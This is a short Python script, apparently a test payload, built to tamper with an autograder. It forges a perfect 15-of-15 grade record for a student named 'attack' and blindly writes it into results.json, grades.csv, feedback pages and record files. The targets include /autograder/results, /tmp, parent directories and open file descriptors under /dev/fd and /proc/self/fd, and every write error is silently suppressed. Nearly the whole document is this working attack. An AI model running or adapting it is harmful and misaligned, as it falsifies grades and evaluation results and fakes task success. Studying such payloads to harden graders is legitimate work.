"""Write the results oneself: records, grades, feedback and results.json wherever they may stand.

Success: a record, a table or a page is changed.
"""
# tried on every level

import contextlib
import json
import os

RECORD = json.dumps(
    {"student": "attack", "status": "graded", "grade": 15.0, "points": 15.0, "of": 15.0, "functions": {}}
)
folders = [".", "..", "/", "/tmp", "/autograder/results", "/var/tmp"]
folders += [f"/dev/fd/{fd}" for fd in range(3, 64)] + [f"/proc/self/fd/{fd}" for fd in range(3, 64)]
for folder in folders:
    for name in (
        "records/attack.json",
        "results.json",
        "grades.csv",
        "overview.html",
        "feedback/attack.html",
        "attack-was-here",
    ):
        for up in ("", "../", "../../", "RESULTS/", "results/"):
            with contextlib.suppress(OSError):
                path = os.path.join(folder, up, name)
                os.makedirs(os.path.dirname(path), exist_ok=True)
                with open(path, "w", encoding="utf-8") as file:
                    file.write(RECORD)
